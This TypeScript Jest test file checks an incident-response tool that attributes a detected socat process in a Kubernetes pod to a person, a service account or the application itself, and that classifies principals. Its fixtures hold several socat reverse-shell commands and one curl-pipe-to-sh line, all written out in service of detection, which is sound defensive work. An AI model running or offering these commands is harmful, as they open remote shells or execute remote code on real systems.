import { describe, expect, it } from '@jest/globals';
import { attribute, classifyPrincipal } from '../../lib/decide/attribution.js';
import type { ExecEvent, RefusedAttempt } from '../../lib/gather/sections.js';
import { buildLineage } from '../../lib/decide/lineage.js';

const EVENT_TIME = '2026-11-27T10:00:00.500000000Z';

function exec(over: Partial<ExecEvent> = {}): ExecEvent {
  return {
    kind: 'exec',
    method: 'io.k8s.core.v1.pods.exec.get',
    container: null,
    time: '2026-11-27T09:58:00Z',
    principal: 'alice@example.com',
    callerIp: '198.51.100.7',
    userAgent: 'kubectl/v1.31.2 (linux/amd64) kubernetes/abc1234',
    command: ['sh'],
    namespace: 'shop',
    pod: 'checkout-7d9f8b6c5-x2x4q',
    mentionsSocat: false,
    ...over,
  };
}

const BASE = { namespace: 'shop', pod: 'checkout-7d9f8b6c5-x2x4q', eventTime: EVENT_TIME };
const WINDOW = { start: '2026-11-27T09:30:00.5Z', end: '2026-11-27T10:05:00.5Z' };

/** The audit section's evidence: a complete read of the window unless said otherwise. */
function audit(execs: ExecEvent[], over: { refused?: RefusedAttempt[]; truncated?: boolean; window?: { start: string; end: string } | null } = {}) {
  return { execs, refused: over.refused ?? [], truncated: over.truncated ?? false, window: over.window === undefined ? WINDOW : over.window };
}

describe('attribute', () => {
  it('matches an exec into this pod before the finding and prefers the one that mentions socat', () => {
    const socat = exec({ time: '2026-11-27T09:50:00Z', command: ['socat', 'TCP:10.0.0.5:4444', 'EXEC:sh'], mentionsSocat: true });
    const later = exec({ time: '2026-11-27T09:59:00Z', principal: 'bob@example.com' });
    const a = attribute({ ...BASE, audit: audit([later, socat]) });
    expect(a.kind).toBe('interactive_exec_by_person');
    expect(a.exec).toBe(socat);
    expect(a.execCount).toBe(2);
    for (const part of ['alice@example.com', '198.51.100.7', 'kubectl/v1.31.2', '2026-11-27T09:50:00Z', 'mentions socat']) {
      expect(a.explanation).toContain(part);
    }
  });

  it('takes the closest exec before the finding when none mentions socat', () => {
    const early = exec({ time: '2026-11-27T09:40:00Z', principal: 'early@example.com' });
    const close = exec({ time: '2026-11-27T09:59:59Z', principal: 'close@example.com' });
    const a = attribute({ ...BASE, audit: audit([close, early]) });
    expect(a.exec?.principal).toBe('close@example.com');
    expect(a.explanation).toContain('close@example.com');
  });

  it('ignores execs into another pod or another namespace', () => {
    const otherPod = exec({ pod: 'checkout-7d9f8b6c5-zzzzz', mentionsSocat: true });
    const otherNs = exec({ namespace: 'staging', mentionsSocat: true });
    const a = attribute({ ...BASE, audit: audit([otherPod, otherNs]) });
    expect(a.kind).toBe('no_exec_found');
    expect(a.exec).toBeNull();
    expect(a.execCount).toBe(0);
  });

  it('matches on the pod alone when the finding names no namespace', () => {
    const a = attribute({ ...BASE, namespace: null, audit: audit([exec({ namespace: 'shop' })]) });
    expect(a.kind).toBe('interactive_exec_by_person');
  });

  it('ignores an exec after the finding: it cannot have started socat', () => {
    const after = exec({ time: '2026-11-27T10:00:00.600Z', mentionsSocat: true });
    const a = attribute({ ...BASE, audit: audit([after]) });
    expect(a.kind).toBe('no_exec_found');
    expect(a.execCount).toBe(0);
  });

  it('compares below the millisecond, and an exec at the same instant counts', () => {
    const sameInstant = exec({ time: '2026-11-27T10:00:00.5Z' });
    const nanosAfter = exec({ time: '2026-11-27T10:00:00.500000001Z', principal: 'late@example.com' });
    const a = attribute({ ...BASE, audit: audit([nanosAfter, sameInstant]) });
    expect(a.exec).toBe(sameInstant);
    expect(a.execCount).toBe(1);
  });

  it('ignores execs older than the window, and the window is configurable', () => {
    const old = exec({ time: '2026-11-27T09:00:00Z' });
    expect(attribute({ ...BASE, audit: audit([old]) }).kind).toBe('no_exec_found');
    expect(attribute({ ...BASE, audit: audit([old], { window: { start: '2026-11-27T08:30:00Z', end: WINDOW.end } }), windowMinutes: 90 }).kind).toBe('interactive_exec_by_person');
  });

  it('ignores an exec whose time is missing or unreadable', () => {
    const a = attribute({ ...BASE, audit: audit([exec({ time: null }), exec({ time: 'yesterday' })]) });
    expect(a.kind).toBe('no_exec_found');
  });

  it('says the workload started socat when logs were read and no exec matched', () => {
    const a = attribute({ ...BASE, audit: audit([]) });
    expect(a.kind).toBe('no_exec_found');
    expect(a.explanation).toContain('the workload itself started socat');
    expect(a.explanation).toContain('shop/checkout-7d9f8b6c5-x2x4q');
  });

  it('is unknown when audit logs were not gathered', () => {
    const a = attribute({ ...BASE, audit: null });
    expect(a).toMatchObject({ kind: 'unknown', exec: null, execCount: 0, explanation: expect.stringContaining('not gathered') });
  });

  it('is unknown when the finding names no pod or has no usable event time', () => {
    expect(attribute({ ...BASE, pod: null, audit: audit([exec()]) }).kind).toBe('unknown');
    const noTime = attribute({ ...BASE, eventTime: null, audit: audit([exec(), exec()]) });
    expect(noTime.kind).toBe('unknown');
    expect(noTime.execCount).toBe(2);
    expect(noTime.exec).toBeNull();
  });

  it('attributes a service-account exec to automation', () => {
    const a = attribute({ ...BASE, audit: audit([exec({ principal: 'deployer@my-proj.iam.gserviceaccount.com' })]) });
    expect(a.kind).toBe('exec_by_service_account');
    expect(a.explanation).toContain('deployer@my-proj.iam.gserviceaccount.com');
  });
});

const JAVA_SH_SOCAT = buildLineage(
  [
    { pid: 1, parentPid: 0, binary: '/usr/bin/java', args: ['java', '-jar', '/app/shop.jar'], name: 'java' },
    { pid: 412, parentPid: 1, binary: '/bin/sh', args: ['sh', '-c', 'socat TCP:203.0.113.9:4444 EXEC:sh'], name: 'sh' },
  ] as never,
  { pid: 413, parentPid: 412, binary: '/usr/bin/socat', args: ['socat', 'TCP:203.0.113.9:4444', 'EXEC:sh'], name: 'socat' } as never,
);

describe('attribute: a session explains socat only when it can', () => {
  it('rejects every session when the lineage shows the application started socat (java → sh → socat)', () => {
    const a = attribute({ ...BASE, audit: audit([exec({ command: ['sh'] })]), lineage: JAVA_SH_SOCAT });
    expect(a.kind).toBe('no_exec_found');
    expect(a.exec).toBeNull();
    expect(a.considered).toHaveLength(1);
    expect(a.considered[0]!.taken).toBe(false);
    expect(a.considered[0]!.reason).toMatch(/^rejected: socat's lineage \(java → sh → socat\) shows the application/);
  });

  it('rejects a session into another container of the pod', () => {
    const a = attribute({ ...BASE, container: 'checkout', audit: audit([exec({ container: 'istio-proxy' })]) });
    expect(a.kind).toBe('no_exec_found');
    expect(a.considered[0]!.reason).toContain('it entered container istio-proxy, the finding is in container checkout');
    expect(attribute({ ...BASE, container: 'checkout', audit: audit([exec({ container: 'checkout' })]) }).kind).toBe('interactive_exec_by_person');
  });

  it.each([
    [['cat', '/etc/hostname'], false],
    [['env'], false],
    [['env', 'FOO=1', 'bash'], true],
    [['timeout', '30', 'ls'], false],
    [['sh', '-c', 'ls /app'], false],
    [['sh'], true],
    [['/bin/bash', '-il'], true],
    [['sh', '-c', 'curl -s http://x/y | sh'], true],
    [['python3', '-c', 'import os'], false],
    [['python3.11'], true],
    [['busybox', 'sh'], true],
    [['/tmp/socat', 'TCP:1.2.3.4:1', 'EXEC:sh'], true],
  ] as const)('a logged command %j can lead to socat: %s', (command, can) => {
    const a = attribute({ ...BASE, audit: audit([exec({ command: [...command], mentionsSocat: command.some((c) => c.includes('socat')) })]) });
    expect(a.kind).toBe(can ? 'interactive_exec_by_person' : 'no_exec_found');
  });

  it('prefers a session that can explain socat over a later one that cannot, and says why', () => {
    const shell = exec({ time: '2026-11-27T09:50:00Z', command: null, principal: 'alice@example.com' });
    const ls = exec({ time: '2026-11-27T09:59:00Z', command: ['ls'], principal: 'bob@example.com' });
    const a = attribute({ ...BASE, audit: audit([ls, shell]) });
    expect(a.exec).toBe(shell);
    expect(a.considered.map((c) => [c.session.principal, c.taken])).toEqual([
      ['bob@example.com', false],
      ['alice@example.com', true],
    ]);
    expect(a.considered[0]!.reason).toContain('runs ls, which starts no further programs');
  });

  it('names attach and debug sessions for what they are', () => {
    const a = attribute({ ...BASE, audit: audit([exec({ kind: 'debug', method: 'io.k8s.core.v1.pods.ephemeralcontainers.patch', container: 'debugger-x7k2p', command: null })]) });
    expect(a.kind).toBe('interactive_exec_by_person');
    expect(a.explanation).toContain('kubectl debug (ephemeral container) (io.k8s.core.v1.pods.ephemeralcontainers.patch)');
  });
});

describe('attribute: absence only from a complete read', () => {
  it('is unknown, not no_exec_found, when the audit read was truncated', () => {
    const a = attribute({ ...BASE, audit: audit([], { truncated: true }) });
    expect(a.kind).toBe('unknown');
    expect(a.explanation).toContain('absence proves nothing');
  });

  it('is unknown when the read did not cover the attribution window', () => {
    const a = attribute({ ...BASE, audit: audit([], { window: { start: '2026-11-27T09:45:00Z', end: WINDOW.end } }) });
    expect(a.kind).toBe('unknown');
    expect(a.explanation).toContain('not the whole attribution window');
  });

  it('still takes a session found in a truncated read: what was read is evidence', () => {
    expect(attribute({ ...BASE, audit: audit([exec()], { truncated: true }) }).kind).toBe('interactive_exec_by_person');
  });

  it('reports refused attempts apart and never takes one as the explanation', () => {
    const refused: RefusedAttempt = {
      kind: 'exec', method: 'io.k8s.core.v1.pods.exec.get', time: '2026-11-27T09:58:00Z', principal: 'admin@example.com',
      callerIp: '198.51.100.7', userAgent: 'kubectl/v1.33.1', namespace: 'shop', pod: BASE.pod, statusCode: 7, reason: 'forbid',
    };
    const a = attribute({ ...BASE, audit: audit([], { refused: [refused] }) });
    expect(a.kind).toBe('no_exec_found');
    expect(a.refused).toEqual([refused]);
    expect(a.explanation).toContain('1 refused request(s) into the pod in the window (by admin@example.com)');
  });
});

describe('classifyPrincipal', () => {
  it.each([
    ['alice@example.com', 'person'],
    ['Alice.Smith+oncall@Corp.Example.CO.UK', 'person'],
    ['principal://iam.googleapis.com/locations/global/workforcePools/corp/subject/alice', 'person'],
    ['deployer@my-proj.iam.gserviceaccount.com', 'automation'],
    ['123456789-compute@developer.gserviceaccount.com', 'automation'],
    ['service-123@container-engine-robot.iam.gserviceaccount.com', 'automation'],
    ['robot@GSERVICEACCOUNT.COM', 'automation'],
    ['system:serviceaccount:ci:runner', 'automation'],
    ['system:node:gke-pool-1-abcd', 'automation'],
    ['System:anonymous', 'automation'],
    ['principal://iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p.svc.id.goog/subject/ns/ci/sa/runner', 'automation'],
    ['kubernetes-admin', 'automation'],
    ['alice@localhost', 'automation'],
    ['', 'automation'],
    [null, 'automation'],
  ] as const)('%j → %s', (principal, kind) => {
    expect(classifyPrincipal(principal)).toBe(kind);
  });

  it('notes lookalike domains are people, not service accounts', () => {
    // Only gserviceaccount.com itself and its subdomains are Google's; anyone can register the rest.
    expect(classifyPrincipal('x@gserviceaccount.com.evil.example')).toBe('person');
    expect(classifyPrincipal('x@notgserviceaccount.com')).toBe('person');
  });
});
